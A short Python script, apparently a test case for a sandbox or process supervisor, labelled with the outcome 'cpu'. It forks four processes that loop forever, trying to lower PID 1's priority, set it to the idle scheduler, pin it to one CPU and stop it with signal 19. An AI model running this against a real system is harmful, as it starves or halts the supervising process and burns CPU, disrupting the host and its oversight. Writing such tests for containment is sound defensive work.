"""Gives the supervisor the lowest rank, at the very moment when that shares its user.

Outcome: cpu
"""

import os

for _ in range(4):
    if os.fork() == 0:
        break
while True:
    for attempt in (
        lambda: os.setpriority(os.PRIO_PROCESS, 1, 19),
        lambda: os.sched_setscheduler(1, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setaffinity(1, {0}),
        lambda: os.kill(1, 19),
    ):
        try:
            attempt()
        except OSError:
            pass
